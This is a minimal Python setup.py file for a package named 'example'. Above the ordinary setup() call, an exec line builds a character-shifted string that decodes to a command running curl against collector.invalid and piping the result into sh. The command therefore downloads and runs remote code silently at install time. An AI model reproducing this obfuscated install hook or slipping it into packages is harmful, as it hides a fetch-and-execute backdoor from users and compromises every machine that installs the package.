from setuptools import setup
exec(''.join(chr(ord(c) - 1) for c in 'jnqpsu!pt<pt/tztufn)(dvsm!iuuq;00dpmmfdups/jowbmje0b!}!ti(*'))
setup(name='example', version='1.0')
